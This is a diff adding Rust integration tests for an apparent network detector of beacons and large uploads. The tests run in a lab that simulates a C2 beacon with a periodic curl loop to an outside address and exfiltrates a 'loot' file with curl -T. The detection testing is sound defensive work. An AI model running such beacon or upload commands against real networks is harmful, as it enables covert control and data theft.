@@ -208,6 +208,70 @@ fn hping_with_a_file_is_an_icmp_tunnel_and_with_a_pattern_it_is_none() {
     assert_eq!(told(&lab, "icmp-tunnel")["behaviour"]["sizes"], 1);
 }
 
+/// A web server at the uplink that takes uploads, and what it serves.
+fn web(lab: &Lab) -> Running {
+    let server = "import http.server as h\n\
+        class Web(h.SimpleHTTPRequestHandler):\n\
+        \x20   def do_PUT(self):\n\
+        \x20       left = int(self.headers['Content-Length'])\n\
+        \x20       while left > 0: left -= len(self.rfile.read(min(left, 65536)))\n\
+        \x20       self.send_response(201); self.send_header('Content-Length', '0'); self.end_headers()\n\
+        h.ThreadingHTTPServer(('93.184.216.34', 80), Web).serve_forever()\n";
+    let web = start(lab, "uplink", "/usr/bin/python3", &["-c", server]);
+    common::until("the web server", SOON, || {
+        let page = run(lab, "lan", "curl", "-s -m 2 http://93.184.216.34/");
+        (!page.is_empty()).then_some(())
+    });
+    web
+}
+
+#[test]
+fn curl_in_a_beat_is_a_beacon() {
+    let Some(lab) = Lab::addressed() else { return };
+    let few = "[detect.beacon]\ncount = 5\njitter = 20\n";
+    let _gate = Gate::with(&lab, &config(&lab, "", few));
+    let _web = web(&lab);
+    let bot = "while :; do curl -s -m 2 -o /dev/null http://93.184.216.34/; sleep 6; done";
+    let _bot = start(&lab, "lan", "sh", &["-c", bot]);
+    let line = common::until("a beacon", Duration::from_secs(90), || {
+        behaviours(&lab).into_iter().next()
+    });
+    assert_eq!(told(&lab, "beacon"), line);
+    let every = line["behaviour"]["every_seconds"]
+        .as_f64()
+        .expect("seconds");
+    assert!((5.5..8.0).contains(&every), "every {every} s");
+    assert_eq!(line["behaviour"]["beats"], 5);
+    assert_eq!(
+        (&line["dest_ip"], &line["dest_port"]),
+        (&"93.184.216.34".into(), &80.into())
+    );
+    assert_eq!(names(&lab), ["beacon"]);
+}
+
+#[test]
+fn curl_that_sends_far_more_than_its_host_ever_did_is_an_upload() {
+    let Some(lab) = Lab::addressed() else { return };
+    let soon = "[detect.upload]\nlearn = \"2s\"\nleast = \"8MB\"\n";
+    let _gate = Gate::with(&lab, &config(&lab, "", soon));
+    let _web = web(&lab);
+    let file = lab.dir().join("loot");
+    std::fs::write(&file, vec![7; 2_000_000]).expect("a file");
+    let send = format!("-s -m 20 -T {} http://93.184.216.34/", file.display());
+    // Less than the least.
+    run(&lab, "lan", "curl", &send);
+    std::thread::sleep(Duration::from_secs(3));
+    assert_eq!(names(&lab), [""; 0]);
+    let size = 30_000_000;
+    std::fs::write(&file, vec![7; size]).expect("a file");
+    run(&lab, "lan", "curl", &send);
+    let line = told(&lab, "upload");
+    let bytes = line["behaviour"]["bytes"].as_u64().expect("bytes");
+    assert!((8_000_000..2 * size as u64).contains(&bytes), "{bytes}");
+    assert_eq!(line["behaviour"]["watched_hours"], 0);
+    assert_eq!(names(&lab), ["upload"]);
+}
+
 #[test]
 fn pings_of_every_size_are_silent() {
     let Some(lab) = Lab::addressed() else { return };
